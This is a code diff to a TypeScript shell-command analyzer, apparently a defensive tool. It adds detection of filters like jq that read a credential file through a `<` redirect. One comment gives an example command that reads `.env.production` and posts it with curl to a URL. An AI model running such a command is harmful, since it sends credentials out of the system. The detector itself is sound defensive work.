@@ -1,6 +1,6 @@
 import type { ActionContext, Inventory } from '../../core/index.ts';
 import { isUnpackedToolchain, regeneratedFolders, unpackedInto } from './regenerated.ts';
-import { secretPrinted } from './secret-sources.ts';
+import { isCredentialFileName, printsItsInput, secretPrinted } from './secret-sources.ts';
 import { kubectlCreateFromFiles, secretOnPipe, sopsDecryptedFile } from './manifest-sources.ts';
 import { FactsBuilder } from '../builder.ts';
 import { resolvePath } from '../paths.ts';
@@ -824,6 +824,11 @@ function describeProducer(node: Node, scope: Pick<ShellScope, 'vars'>, input: St
   }
   const args = argNodes.map((a) => (a ? evalWord(a, scope.vars).value : null));
   if (name === 'cat' && args.length === 0 && heredoc !== null) return { text: heredoc, producer: 'cat' };
+  // `jq -Rn '[inputs]' < .env.production | curl -d @- URL`: a filter fed a credential file by `<` prints its secrets.
+  const inputFile = node.type === 'redirected_statement' && heredoc === null ? redirectedInputFile(node, scope) : null;
+  if (inputFile !== null && name !== null && isCredentialFileName(inputFile) && printsItsInput(name, args.map((a) => a ?? ''))) {
+    return { text: null, producer: `${name} < ${inputFile}`, secret: `the credential file \`${inputFile}\`` };
+  }
   if (name === 'crontab' && heredoc === null && args.includes('-l') && !args.includes('-r')) return { text: null, producer: 'crontab', currentCrontab: true };
   // `crontab -l | grep -v P`, `crontab -l | sed '/P/d'`: the current table with the lines matching P taken out.
   const without = input?.currentCrontab && name !== null && heredoc === null && args.every((a) => a !== null) ? linesRemovedBy(name, args as string[]) : undefined;
@@ -1135,6 +1140,16 @@ function kubectlCreatePrinted(base: string, ops: string[], args: string[]): stri
   const printed = args.some((a) => /^--dry-run(=(client|server))?$/.test(a)) && args.some((a, i) => /^(-o|--output)=?(yaml|json)$/.test(a) || (/^(-o|--output)$/.test(a) && /^(yaml|json)$/.test(args[i + 1] ?? '')) || a === '-oyaml' || a === '-ojson');
   if (!printed || args.some((a) => /^--(from-file|from-env-file|cert|key|kubeconfig)(=|$)/.test(a))) return undefined;
   return `kubectl create ${ops.slice(1, ops[1] === 'secret' ? 4 : 3).join(' ')}`;
+}
+
+/** The file a `< FILE` redirect of this statement reads as standard input (bash(1), "Redirecting Input"), or null. */
+function redirectedInputFile(node: Node, scope: Pick<ShellScope, 'vars'>): string | null {
+  for (const r of node.childrenForFieldName('redirect')) {
+    if (r?.type !== 'file_redirect' || !/^\d*<(?![<&>])/.test(r.text)) continue;
+    const dest = r.childForFieldName('destination');
+    return dest ? evalWord(dest, scope.vars).value : null;
+  }
+  return null;
 }
 
 function heredocText(node: Node, scope: Pick<ShellScope, 'vars'>): string | null {
